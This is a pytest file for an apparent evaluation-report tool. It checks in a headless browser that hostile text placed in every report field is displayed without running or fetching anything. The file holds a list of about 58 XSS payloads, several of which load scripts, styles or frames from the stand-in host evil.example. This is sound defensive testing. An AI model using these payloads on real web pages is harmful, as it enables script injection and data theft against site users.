"""Texts that attack a page stand in it as text: nothing is executed, nothing is asked for, with the policy on."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from chromium import Chromium, OpenPage
from jinja2 import DictLoader
from page_states import PLAN, a_full_record, an_observation, page_between, write_page
from stored_pair import a_chunk, a_record, store
from two_runs import a_row

from pytest_rageval.page import environment
from pytest_rageval.page.environment import case_address
from pytest_rageval.runs.records import to_line
from pytest_rageval.runs.row import Row
from pytest_rageval.text import printable

pytestmark = pytest.mark.browser
RUN = "top.hacked=(top.hacked||0)+1"
_TAGS = (
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</template><script>{RUN}</script>",
    f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script/x>{RUN}</script>",
    f"<script>{RUN}//",
    f"<<script>{RUN}</script>", f"<script type=module>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>", "<script src=//evil.example/x.js></script>",
)  # fmt: skip
_HANDLERS = (
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>",
    f"<body onload={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}></select>",
    f"<marquee onstart={RUN}>x</marquee>", f"<div onpointerenter={RUN}>x</div>", f"<object data=x onerror={RUN}>",
    f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f"x onmouseover={RUN} ", f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>", f"`><img src=x onerror={RUN}>",
    f"<style>@keyframes x{{}}</style><b onanimationstart={RUN}>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>", f"<form><button formaction=javascript:{RUN}>x</button></form>",
)  # fmt: skip
_LOADS = (
    "<img src=http://evil.example/x.png>", "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'</style>", "<iframe src=http://evil.example></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<a href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})", f"<base href=http://evil.example/><a href={RUN}>", "<meta http-equiv=refresh content=0>",
    f"<embed src=data:text/html,<script>{RUN}</script>>", "<b style='background:url(http://evil.example/x)'>x</b>",
)  # fmt: skip
_OTHERS = (
    "{{ 7*7 }}{% raise %}", "${7*7} #{7*7} %(x)s {0}", "\u202egnitirw\u2066", "\x00nul \x1b[31mred",
    "&lt;b&gt; &amp;amp;",
    "+ADw-script+AD4-", "a/b::c?d#e&f=g", "a\u2028b\u2029c",
)  # fmt: skip
PAYLOADS = (*_TAGS, *_HANDLERS, *_LOADS, *_OTHERS)


def hostile_rows(outcome: str) -> list[Row]:
    """A case a payload, which stands in each of its fields."""
    return [
        a_row(
            f"evalcases/{text[:40]}.jsonl::{number} {text}", recall_any_at_5=float(outcome == "passed"),
            outcome=outcome,
            failed=(("recall_any@5", text),) if outcome == "failed" else (), message=text,
            groups={"category": (text,), "tag": (text, f"t{text}"), "difficulty": (text,), "domain": (text,),
                    "answerable": ("answerable",)},
        )
        for number, text in enumerate(PAYLOADS)
    ]  # fmt: skip


def hostile_record(row: Row, text: str) -> dict[str, Any]:
    return a_full_record(
        row, question=f"question {text}", answer=f"answer {text}", reason=text, difficulty=text, domain=text,
        retrieved_chunks=[a_chunk(1, text, [0], heading_path=text, text=f"chunk {text}", chunk_id=text)],
        groundedness={"score": 1.0, "reasoning": text, "model": text, "heuristic": True,
                      "supported_claims": [text], "unsupported_claims": [f"claim {text}"]},
        error={"kind": "exception", "message": f"error {text}", "raw": text}, skipped_metrics={"mrr": text},
        trace={text: [text]}, source={"file": text, "line": 1},
    )  # fmt: skip


def hostile_run(reports: Path, run_id: str, outcome: str) -> Path:
    rows = hostile_rows(outcome)
    records = {row.key: hostile_record(row, text) for row, text in zip(rows, PAYLOADS, strict=True)}
    settings = {f"setting {text}": f"{run_id} {text}" for text in PAYLOADS}
    folder = store(reports, run_id, rows, plan=PLAN, records={row.key: records[row.key] for row in rows},
                   config={"params": settings, "target": PAYLOADS[0]}, description=" ".join(PAYLOADS))  # fmt: skip
    lines = [
        to_line(an_observation(row, f"question {text}", answer=text, key_facts=[text],
                               supports=[{"rel_path": "a.md"}, {"rel_path": f"gold {text}"}]))
        for row, text in zip(rows, PAYLOADS, strict=True)
    ]  # fmt: skip
    (folder / "observations.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    metrics = json.loads((folder / "metrics.json").read_text(encoding="utf-8"))
    if run_id == "alone":  # a comparison refuses names that no metric can have
        metrics["metrics"] |= dict.fromkeys(PAYLOADS, metrics["metrics"]["recall_any@5"])
    metrics["judge"] = {"model": " ".join(PAYLOADS), "heuristic": True, "prompt_versions": {PAYLOADS[0]: PAYLOADS[1]}}
    metrics["verdict"] = {"problems": dict(zip(PAYLOADS, PAYLOADS, strict=True))}
    metrics["volatile"]["cost"]["target_usage"] = dict.fromkeys(PAYLOADS, 1.0)
    (folder / "metrics.json").write_text(json.dumps(metrics), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report in which every field attacks, as the comparison with a run like it."""
    folder = tmp_path_factory.mktemp("hostile")
    hostile_run(folder, "before", "passed")
    hostile_run(folder, "now", "failed")
    return write_page(folder, page_between(folder, "before", "now"))


@pytest.fixture(scope="module")
def lone_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same without a comparison, with hostile names of metrics."""
    folder = tmp_path_factory.mktemp("alone")
    hostile_run(folder, "alone", "failed")
    return write_page(folder, page_between(folder, None, "alone"))


def harm(page: OpenPage) -> list[str]:
    """What was executed or asked for."""
    hacked = page.evaluate("top.hacked || 0")
    return [*page.requests[1:], *page.problems] + ([f"executed {hacked} times"] if hacked else [])


def cases() -> Iterator[tuple[str, str, str]]:
    for row, text in zip(hostile_rows("failed"), PAYLOADS, strict=True):
        yield case_address(row.key), row.key.partition("::")[2], text


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 58


@pytest.mark.parametrize("name", ["report", "lone_report"])
def test_hostile_texts_are_shown_and_do_nothing(chromium: Chromium, name: str, request: pytest.FixtureRequest):
    with chromium.page() as page:
        page.open(request.getfixturevalue(name))
        first = " ".join(page.evaluate("document.body.textContent").split())
        assert [text for text in PAYLOADS if " ".join(printable(text).split()) not in first] == []
        assert harm(page) == []


def test_hostile_cases_are_shown_and_do_nothing(chromium: Chromium, report: Path):
    with chromium.page() as page:
        page.open(report)
        for address, id, text in cases():
            for suffix in ("", "/compare"):
                page.go(address + suffix)
                page.wait_for_function("id => document.querySelector('#case h2 [data-md]')?.textContent === id",
                                       arg=printable(id))  # fmt: skip
                shown = page.evaluate("document.getElementById('case').textContent")
                parts = ("answer", "question", "chunk", "gold", "claim", "error") if not suffix else ("error",)
                assert [part for part in parts if f"{part} {printable(text)}" not in shown] == [], (address, suffix)
        assert harm(page) == []


def test_a_filter_for_hostile_names_finds_their_cases(chromium: Chromium, report: Path):
    with chromium.page() as page:
        page.open(report)
        for link in page.evaluate("[...document.querySelectorAll('table.heat a')].map(link => link.hash)")[:12]:
            page.evaluate("address => { location.hash = address; }", link)
            page.wait_for_function("() => document.getElementById('count').textContent.startsWith('1 of')")
        assert page.inner_text("#filter-error") == ""
        assert harm(page) == []


def test_without_autoescape_in_one_macro_the_policy_still_executes_nothing(
    chromium: Chromium, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """What the other tests would see: the text is gone from the page; what the reader is spared: it does not run."""
    pages = environment.environment()
    source = {name: pages.loader.get_source(pages, name)[0] for name in pages.list_templates()}
    source["macros.html"] = source["macros.html"].replace("{{ text }}", "{{ text|safe }}")
    broken = pages.overlay(loader=DictLoader(source))
    broken.cache = {}
    monkeypatch.setattr(environment, "environment", lambda: broken)
    hostile_run(tmp_path, "now", "failed")
    with chromium.page() as page:
        page.open(write_page(tmp_path, page_between(tmp_path, None, "now")))
        address, _, _ = next(cases())
        page.go(address)
        assert "<script>" not in page.evaluate("document.querySelector('#case .is-plain').textContent")
        for address, _, text in cases():
            if "refresh" not in text:  # which no policy forbids, and which executes nothing
                page.go(address)
        page.wait_for_timeout(300)
        assert page.evaluate("top.hacked || 0") == 0
        assert [url for url in page.answered if not url.startswith("file:")] == []


def test_a_record_made_for_tests_is_whole():
    """The page reads what a run writes: a made-up record that lacks a key would hide that."""
    assert {"question", "answer", "scores", "verdict"} <= a_record(a_row("a.jsonl::q")).keys()
